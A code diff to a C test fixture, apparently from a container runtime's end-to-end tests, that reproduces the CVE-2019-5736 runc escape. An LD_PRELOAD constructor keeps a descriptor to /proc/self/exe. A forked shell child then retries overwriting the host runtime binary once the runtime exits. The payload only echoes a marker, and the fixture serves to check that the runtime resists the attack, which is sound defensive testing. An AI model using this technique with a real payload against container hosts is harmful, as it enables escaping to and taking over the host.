@@ -8,18 +8,22 @@
  * constructor, now code of the attacker running in the runtime's process:
  *   1. opens /proc/self/exe for writing (ETXTBSY on a plain host binary that is
  *      running; any success is logged and the payload written);
- *   2. keeps a read-only descriptor of /proc/self/exe and forks a child that,
- *      once the runtime process exits, reopens /proc/self/fd/N for writing and
- *      writes the payload: the published exploit's second stage.
+ *   2. keeps a read-only descriptor of /proc/self/exe and forks a child that
+ *      becomes the rootfs's shell and, once the runtime process exits, reopens
+ *      /proc/self/fd/N for writing and writes the payload: the published
+ *      exploit's second stage.
  * Everything goes to /tmp/preload.log in the container. The child writes
- * "child done" when it gives up (after 5 s) or succeeds.
+ * "child done" when it gives up (after about 5 s) or succeeds.
  */
+#ifndef _GNU_SOURCE
+#define _GNU_SOURCE
+#endif
 #include <errno.h>
 #include <fcntl.h>
 #include <stdarg.h>
 #include <stdio.h>
 #include <string.h>
-#include <time.h>
+#include <stdlib.h>
 #include <unistd.h>
 
 static const char payload[] = "#!/bin/sh\necho WARD-E2E-CVE-2019-5736-PAYLOAD\n";
@@ -56,11 +60,10 @@ attack_write(int fd, const char *how)
 __attribute__((constructor)) static void
 evil(void)
 {
-	char exe[256], path[64];
-	struct timespec ms = {0, 1000000};
+	char exe[256], script[1024];
 	pid_t parent = getpid();
 	ssize_t n;
-	int fd, keep, i;
+	int fd, keep;
 
 	n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
 	exe[n > 0 ? n : 0] = '\0';
@@ -83,7 +86,14 @@ evil(void)
 		(void)close(keep);
 		return;
 	}
-	/* Child: let the caller's exec return, outlive the runtime process. */
+	/*
+	 * Child: let the caller's exec return and outlive the runtime process. It
+	 * must stop running the runtime's image itself (a process executing a file
+	 * keeps it busy), so, like the published exploit's second stage, it becomes
+	 * another program that holds the descriptor: the rootfs's shell, retrying
+	 * the reopen for writing ("1<>" opens O_RDWR without truncating) until the
+	 * runtime process has exited.
+	 */
 	(void)setsid();
 	fd = open("/dev/null", O_RDWR);
 	if (fd >= 0) {
@@ -91,22 +101,18 @@ evil(void)
 		(void)dup2(fd, 1);
 		(void)dup2(fd, 2);
 	}
-	snprintf(path, sizeof(path), "/proc/self/fd/%d", keep);
-	for (i = 0; i < 5000; i++) {
-		if (getppid() != parent) {
-			fd = open(path, O_WRONLY | O_CLOEXEC);
-			if (fd >= 0) {
-				attack_write(fd, "reopen of /proc/self/exe after the runtime exited");
-				(void)close(fd);
-				break;
-			}
-			if (errno != ETXTBSY) {
-				say("reopen after exit: %s\n", strerror(errno));
-				break;
-			}
-		}
-		nanosleep(&ms, NULL);
-	}
+	snprintf(script, sizeof(script),
+		 "i=0; while [ $i -lt 500 ]; do i=$((i+1));"
+		 " if ( printf '%%s' \"$PAYLOAD\" 1<> /proc/self/fd/%d ) 2>/tmp/preload.err; then"
+		 " echo \"WROTE via reopen of /proc/self/fd/%d after the runtime exited\" >> /tmp/preload.log; break; fi;"
+		 " if ! grep -q busy /tmp/preload.err; then"
+		 " echo \"reopen after exit: $(cat /tmp/preload.err)\" >> /tmp/preload.log; break; fi;"
+		 " sleep 0.01; done; echo 'child done' >> /tmp/preload.log",
+		 keep, keep);
+	(void)setenv("PAYLOAD", payload, 1);
+	(void)unsetenv("LD_PRELOAD");
+	execl("/bin/sh", "sh", "-c", script, (char *)NULL);
+	say("exec /bin/sh: %s\n", strerror(errno));
 	say("child done\n");
 	_exit(0);
 }
